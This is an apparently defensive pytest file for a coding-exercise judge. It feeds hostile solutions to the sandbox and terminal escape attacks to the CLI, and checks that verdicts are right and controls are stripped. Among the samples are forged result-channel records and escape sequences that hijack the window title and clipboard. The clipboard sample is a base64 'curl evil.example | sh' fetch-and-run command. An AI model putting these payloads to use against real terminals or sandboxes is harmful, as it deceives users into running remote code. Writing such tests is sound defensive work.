"""Hostile output, end to end: whatever a solution emits is data, and its verdict is its own.

Each solution below is submitted with ``torchdrill submit`` to a real server (uvicorn on
127.0.0.1, the real sandbox, SQLite and PostgreSQL). For each one the test checks the verdict and
its message, then that the CLI, ``GET /api/v1/submissions/{id}``, the submissions list and the
submission page all show it — with no raw control character, NUL or lone surrogate anywhere —
and that the server is still healthy afterwards.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.kit.db import Database
from tests.app.api_v1.conftest import create_account
from tests.app.conftest import Browser

CORRECT = "def add(a, b):\n    return a + b\n"
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")  # \t and \n are fine


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str
    verdict: str
    message: str  # a piece of the verdict's message (case-insensitive)


CASES = [
    Hostile(
        "raw-bytes-on-stdout-and-stderr",
        "import os, sys\n"
        "os.write(1, b'\\x00\\xff\\xfe\\x1b[2J\\xed\\xa0\\x80 raw')\n"
        "os.write(2, b'\\x1b]0;title\\x07\\x00 err')\n"
        "def add(a, b):\n"
        "    print('nul\\x00 esc\\x1b[31m lone\\ud800 bell\\x07 cr\\r!')\n"
        "    return a + b\n",
        "accepted",
        "passed",
    ),
    Hostile(
        "non-finite-and-odd-floats",
        "import torch\n"
        "def add(a, b):\n"
        "    return torch.tensor([float('nan'), float('inf'), -float('inf'), -0.0, 5e-324])\n",
        "wrong_answer",
        "failed",
    ),
    Hostile(
        "huge-returned-value",
        "import torch\ndef add(a, b):\n    return torch.zeros(900_000)\n",
        "runtime_error",
        "too large to judge",
    ),
    Hostile(
        "deeply-nested-returned-value",
        "def add(a, b):\n    x = []\n    for _ in range(10_000):\n        x = [x]\n    return x\n",
        "runtime_error",
        "nest",
    ),
    Hostile(
        "huge-exception-message",
        "def add(a, b):\n    raise ValueError('\\x1b[31m' + 'x' * 5_000_000)\n",
        "runtime_error",
        "ValueError",
    ),
    Hostile(
        "exception-whose-str-fails",
        "class Bad(Exception):\n"
        "    def __str__(self):\n"
        "        raise RuntimeError('no')\n"
        "def add(a, b):\n"
        "    raise Bad()\n",
        "runtime_error",
        "could not be shown",
    ),
    Hostile(
        "malformed-record-on-the-result-channel",
        "import os\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        os.write(fd, b'{not json\\n')\n"
        "    except OSError:\n"
        "        pass\n" + CORRECT,
        "runtime_error",
        "result channel",
    ),
    Hostile(
        "deeply-nested-record-on-the-result-channel",
        "import os\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        os.write(fd, b'[' * 200_000 + b'\\n')\n"
        "    except OSError:\n"
        "        pass\n" + CORRECT,
        "runtime_error",
        "result channel",
    ),
    Hostile(
        "forged-duplicate-case-record",
        "import os, json\n"
        "forged = json.dumps({'type': 'case', 'name': 'example', 'status': 'ok',\n"
        "                     'value': {'__tensor__': True}}).encode() + b'\\n'\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        os.write(fd, forged)\n"
        "    except OSError:\n"
        "        pass\n" + CORRECT,
        "runtime_error",
        "result channel",
    ),
    Hostile(
        "stops-itself",
        "import os, signal\ndef add(a, b):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    return a + b\n",
        "time_limit_exceeded",
        "time limit",
    ),
    Hostile(
        "threads-burning-native-code",
        "import threading, torch\n"
        "def burn():\n"
        "    x = torch.randn(256, 256)\n"
        "    while True:\n"
        "        x = torch.tanh(x @ x)\n"
        "def add(a, b):\n"
        "    torch.set_num_threads(1)\n"
        "    workers = [threading.Thread(target=burn, daemon=True) for _ in range(4)]\n"
        "    for w in workers:\n"
        "        w.start()\n"
        "    burn()\n",
        "time_limit_exceeded",
        "time",
    ),
]


def _texts(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in (*_texts(k), *_texts(v))]
    if isinstance(value, list):
        return [t for v in value for t in _texts(v)]
    return []


def assert_safe_text(where: str, texts: list[str]) -> None:
    for text in texts:
        found = RAW_CONTROL.search(text)
        assert found is None, f"{where} holds a raw {found.group()!r}: {text[:200]!r}"


@pytest.fixture
def run(db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    from typer.testing import CliRunner

    from app.cli.main import app as cli

    monkeypatch.setenv("TORCHDRILL_DATABASE_URL", db.url)
    monkeypatch.setenv("TORCHDRILL_CONFIG", str(tmp_path / "cfg" / "config.json"))
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    return lambda *args: runner.invoke(cli, [str(a) for a in args])


@pytest.mark.slow
@pytest.mark.parametrize("hostile", CASES, ids=[c.name for c in CASES])
def test_hostile_output_is_shown_safely_everywhere(
    hostile: Hostile, run: Any, live_server: str, app: FastAPI, db: Database, tmp_path: Path
) -> None:
    email, token = create_account(db)
    assert run("login", "--server", live_server, "--token", token).exit_code == 0
    (tmp_path / "solution.py").write_text(hostile.code, encoding="utf-8", errors="surrogatepass")

    # The CLI: the verdict, and nothing that would drive the learner's terminal.
    submitted = run("submit", "add-tensors", "solution.py")
    assert submitted.exit_code == (0 if hostile.verdict == "accepted" else 1), submitted.output
    assert hostile.verdict.replace("_", " ").upper() in submitted.output
    assert_safe_text("the CLI output", [submitted.output.replace("\r", "")])
    found = re.search(r"#(\d+) submit:", submitted.output)
    assert found, submitted.output
    submission_id = int(found.group(1))

    api = TestClient(app)
    auth = {"Authorization": f"Bearer {token}"}
    view = api.get(f"/api/v1/submissions/{submission_id}", headers=auth)
    assert view.status_code == 200, view.text
    body = view.json()
    assert body["verdict"] == hostile.verdict, body["message"]
    assert (
        hostile.message.lower() in (body["message"] + " ".join(t["message"] for t in body["tests"])).lower()
    )
    assert "not your fault" not in body["message"]
    assert len(body["message"]) < 5000 and all(len(t["message"]) < 5000 for t in body["tests"])
    assert_safe_text("GET /api/v1/submissions/{id}", _texts(body))

    listing = api.get("/api/v1/submissions", headers=auth)
    assert listing.status_code == 200
    assert [item["verdict"] for item in listing.json()["items"] if item["id"] == submission_id] == [
        hostile.verdict
    ]

    page_viewer = Browser(app)
    assert page_viewer.login(email).status_code == 303
    page = page_viewer.get(f"/submissions/{submission_id}")
    assert page.status_code == 200
    assert_safe_text("the submission page", [page.text])

    assert api.get("/healthz").status_code == 200


def test_raw_bytes_are_visible_escapes_in_the_public_case(
    run: Any, live_server: str, app: FastAPI, db: Database, tmp_path: Path
) -> None:
    """What the learner printed is still there to read, as visible escapes."""
    _email, token = create_account(db)
    auth = {"Authorization": f"Bearer {token}"}
    response = TestClient(app).post(
        "/api/v1/submissions?wait=true",
        json={"problem": "add-tensors", "code": CASES[0].code, "mode": "run"},
        headers=auth,
    )
    assert response.status_code == 200, response.text
    stdout = response.json()["tests"][0]["stdout"]
    assert "nul\\x00 esc\\x1b[31m lone\\ud800 bell\\x07 cr\\x0d!" in stdout


# --- what the server itself sends: titles, descriptions, emails, error details, exports ---------------

# Each is something a terminal would act on instead of showing (docs/security.md, "Exports,
# terminals and author markup"). They reach the database here directly, as rows stored before
# the server refused control characters in one-line fields would hold them.
TERMINAL_ATTACKS = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear-screen": "\x1b[2J\x1b[3J\x1b[H",
    "window-title": "\x1b]0;pwned-title\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "device-control": "\x1bP+q544e\x1b\\",
    "c1-controls": "\x9b2J\x9d0;c1-title\x9c\x85",
    "bidi-override": "\u202egnp.exe\u202c \u2066iso\u2069",
    "overwrite": "safe\rEVIL\x08\x08\x08\x08",
    "bell-and-nul-ish": "\x07\x1b\x7f",
}
HOSTILE = "T " + "".join(TERMINAL_ATTACKS.values())
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
PAYLOADS = ("pwned-title", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA", "evil.example", "c1-title")


def assert_terminal_safe(where: str, output: str, *, payloads: bool = True) -> None:
    found = TERMINAL_CONTROL.search(output)
    assert found is None, f"{where} printed {found.group()!r}: {output[:300]!r}"
    for payload in PAYLOADS if payloads else ():  # an escape sequence goes as a whole, its payload too
        assert payload not in output, f"{where} printed the payload {payload!r}"


def test_the_cli_strips_terminal_controls_from_everything_the_server_sends(
    run: Any, live_server: str, app: FastAPI, db: Database, tmp_path: Path
) -> None:
    from sqlalchemy import select, update

    from app.accounts.models import User
    from app.courses.models import Assignment
    from app.problems.models import Problem, Track

    email, token = create_account(db, role="instructor")
    auth = {"Authorization": f"Bearer {token}"}
    api = TestClient(app)
    course = api.post("/api/v1/courses", json={"title": "Terminals"}, headers=auth).json()
    made = api.post(
        f"/api/v1/courses/{course['id']}/assignments",
        json={
            "title": "placeholder",
            "problems": ["add-tensors"],
            "release_at": "2026-01-01T00:00:00+00:00",
            "due_at": "2099-01-01T00:00:00+00:00",
        },
        headers=auth,
    )
    assert made.status_code == 201, made.text
    hostile_email = "\x1b]0;pwned-title\x07" + email
    with db.transaction() as session:
        problem = session.scalars(select(Problem).where(Problem.slug == "add-tensors")).one()
        track = session.get(Track, problem.track_id)
        assert track is not None
        saved = (problem.title, problem.category, track.title, track.description)
        session.execute(
            update(Problem).where(Problem.id == problem.id).values(title=HOSTILE, category=HOSTILE[:90])
        )
        session.execute(
            update(Track).where(Track.id == track.id).values(title=HOSTILE[:95], description=HOSTILE)
        )
        session.execute(update(Assignment).where(Assignment.id == made.json()["id"]).values(title=HOSTILE))
        session.execute(update(User).where(User.email == email).values(email=hostile_email))
        track_slug = track.slug
    try:
        commands = {
            "login": ("login", "--server", live_server, "--token", token),
            "problems": ("problems",),
            "tracks": ("tracks",),
            "tracks SLUG": ("tracks", track_slug),
            "pull": ("pull", "add-tensors", "--force"),
            "an error detail": ("pull", "no-such\x1b]0;pwned-title\x07-problem"),
            "course export to stdout": ("course", "export", course["id"], "-o", "-"),
        }
        for where, command in commands.items():
            result = run(*command)
            output = result.output + (result.stderr if result.stderr_bytes is not None else "")
            assert result.exit_code == (2 if where == "an error detail" else 0), (where, output)
            # The server names a missing slug with repr(): the escape arrives as visible text.
            assert_terminal_safe(where, output, payloads=where != "an error detail")
            if where in ("problems", "pull", "course export to stdout"):
                assert "red" in output and "click" in output  # the text is kept, the controls go
    finally:
        with db.transaction() as session:
            session.execute(
                update(Problem).where(Problem.slug == "add-tensors").values(title=saved[0], category=saved[1])
            )
            session.execute(
                update(Track).where(Track.slug == track_slug).values(title=saved[2], description=saved[3])
            )


@pytest.mark.parametrize("name", list(TERMINAL_ATTACKS))
def test_terminal_safe_removes_each_control_and_keeps_the_text(name: str) -> None:
    from torchdrill.output import terminal_safe

    shown = terminal_safe(f"before {TERMINAL_ATTACKS[name]} after\tand\nnext ünïcode 👩\u200d💻")
    assert_terminal_safe(name, shown)
    assert shown.startswith("before ") and shown.endswith(" after\tand\nnext ünïcode 👩\u200d💻")
